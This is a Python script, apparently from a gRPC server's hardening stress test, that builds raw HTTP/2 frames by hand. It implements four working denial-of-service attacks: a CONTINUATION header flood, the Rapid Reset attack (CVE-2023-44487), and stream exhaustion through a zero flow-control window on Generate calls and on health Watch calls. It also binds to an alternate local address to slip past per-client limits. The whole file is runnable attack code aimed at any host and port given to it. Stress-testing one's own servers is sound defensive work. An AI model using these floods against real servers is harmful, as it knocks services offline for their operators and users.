#!/usr/bin/env python3
"""Raw HTTP/2 attacks on a gRPC port, for the hardening stress test (attack_test.py).

No HTTP/2 library: the frames are written by hand (RFC 9113 framing, HPACK literals without
Huffman coding), so each attack does exactly what its name says and nothing a library would
smooth over. Every attack runs for a fixed time and then stops; a frame reader drains what the
server sends (ACKing SETTINGS and PINGs) and notices when the server closes the connection, in
which case the attack reconnects and goes on.

  continuation  HEADERS without END_HEADERS, then CONTINUATION frames of headers forever
                (the "CONTINUATION flood": a server that buffers them unboundedly grows 1:1).
  rapid_reset   HEADERS for a Generate call then RST_STREAM at once, new stream ids in a loop
                (CVE-2023-44487).
  unread        Generate calls on connections that announce a flow-control window of 0 and never
                open it: the server can never deliver a byte, so without a write timeout every
                stream stays open after its generation ended. Up to --streams streams (100 per
                connection, the server's limit), all held until the time is up.
  watch         the same with grpc.health.v1.Health/Watch calls (exempt from auth).

Usage: h2_attack.py MODE HOST PORT SECONDS [--streams N] [--source ADDR]
prints one JSON line of what it did. --source binds the attacker's sockets to a local address
(e.g. 127.0.0.2), so that per-client-address limits tell it from other clients on loopback.
"""
import argparse
import json
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream_id & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    """A literal header field without indexing, new name, no Huffman coding."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_headers(host, port, path="/kvserve.v1.Generation/Generate"):
    return b"".join(literal(n, v) for n, v in [
        (":method", "POST"), (":scheme", "http"), (":path", path),
        (":authority", f"{host}:{port}"), ("content-type", "application/grpc"),
        ("te", "trailers")])


class Connection:
    """One HTTP/2 client connection; a reader thread answers SETTINGS/PING and watches for EOF."""

    source = None  # local address to bind (main() sets it from --source)

    def __init__(self, host, port, initial_window=None):
        self.sock = socket.create_connection(
            (host, port), timeout=10,
            source_address=(Connection.source, 0) if Connection.source else None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.closed = threading.Event()
        self.goaways = 0
        self.resets_received = 0
        self.ended_by_server = set()  # stream ids the server ended (RST_STREAM or trailers)
        self.lock = threading.Lock()
        settings = b"" if initial_window is None else struct.pack(">HI", 0x4, initial_window)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
        threading.Thread(target=self._read, daemon=True).start()

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def _read(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags, buf_id = buf[3], buf[4], buf[5:9]
                    payload = buf[9:9 + length]
                    buf = buf[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self.send(frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY:
                        self.goaways += 1
                    elif kind == RST_STREAM:
                        self.resets_received += 1
                        self.ended_by_server.add(int.from_bytes(buf_id, "big") & 0x7FFFFFFF)
                    elif kind == HEADERS and flags & END_STREAM:
                        self.ended_by_server.add(int.from_bytes(buf_id, "big") & 0x7FFFFFFF)
        except OSError:
            pass
        self.closed.set()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def continuation_flood(host, port, seconds):
    sent = connections = 0
    filler = literal("x-flood", "a" * 4000)  # each frame under the 8 KiB metadata limit on its own
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        conn = Connection(host, port)
        connections += 1
        try:
            conn.send(frame(HEADERS, 0, 1, request_headers(host, port)))
            while time.monotonic() < end and not conn.closed.is_set():
                conn.send(frame(CONTINUATION, 0, 1, filler))
                sent += len(filler) + 9
        except OSError:
            pass
        conn.close()
    return {"mode": "continuation", "bytes_sent": sent, "connections": connections}


def rapid_reset(host, port, seconds):
    streams = connections = 0
    headers = request_headers(host, port)
    rst = struct.pack(">I", 8)  # CANCEL
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        conn = Connection(host, port)
        connections += 1
        stream_id = 1
        try:
            while time.monotonic() < end and not conn.closed.is_set() and stream_id < 2**31 - 200:
                batch = bytearray()
                for _ in range(50):
                    batch += frame(HEADERS, END_HEADERS, stream_id, headers)
                    batch += frame(RST_STREAM, 0, stream_id, rst)
                    stream_id += 2
                conn.send(bytes(batch))
                streams += 50
        except OSError:
            pass
        conn.close()
    return {"mode": "rapid_reset", "streams_reset": streams, "connections": connections}


def grpc_message(payload):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def unread_streams(host, port, seconds, max_streams, path, body):
    """Opens streams whose responses can never be delivered and holds them until the end."""
    headers = request_headers(host, port, path)
    conns, opened = [], 0
    end = time.monotonic() + seconds
    per_connection = 100
    while time.monotonic() < end and opened < max_streams:
        conn = Connection(host, port, initial_window=0)
        conns.append(conn)
        batch = bytearray()
        for i in range(min(per_connection, max_streams - opened)):
            stream_id = 1 + 2 * i
            batch += frame(HEADERS, END_HEADERS, stream_id, headers)
            batch += frame(DATA, END_STREAM, stream_id, grpc_message(body))
            opened += 1
        try:
            conn.send(bytes(batch))
        except OSError:
            pass
        time.sleep(seconds / 2 / max(1, max_streams // per_connection))  # spread over half the time
    while time.monotonic() < end:
        time.sleep(0.1)
    alive = sum(1 for c in conns if not c.closed.is_set())
    resets = sum(c.resets_received for c in conns)
    ended = sum(len(c.ended_by_server) for c in conns)
    for c in conns:
        c.close()
    return {"streams_opened": opened, "connections": len(conns), "connections_alive": alive,
            "rst_stream_received": resets, "streams_ended_by_server": ended}


def generate_request(text, max_tokens):
    """kvserve.v1.GenerateRequest{prompt.text = text (2), max_tokens (4)}, encoded by hand."""
    data = text.encode()
    return b"\x12" + hpack_int(len(data), 7) + data + b"\x20" + bytes([max_tokens])


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("mode", choices=["continuation", "rapid_reset", "unread", "watch"])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--streams", type=int, default=10000)
    parser.add_argument("--source")
    args = parser.parse_args()
    mode, host, port, seconds, streams = args.mode, args.host, args.port, args.seconds, args.streams
    Connection.source = args.source
    attacks = {
        "continuation": lambda: continuation_flood(host, port, seconds),
        "rapid_reset": lambda: rapid_reset(host, port, seconds),
        "unread": lambda: unread_streams(host, port, seconds, streams,
                                         "/kvserve.v1.Generation/Generate",
                                         generate_request("hello", 8)),
        "watch": lambda: unread_streams(host, port, seconds, streams,
                                        "/grpc.health.v1.Health/Watch", b""),
    }
    result = attacks[mode]()
    result["mode"] = mode
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
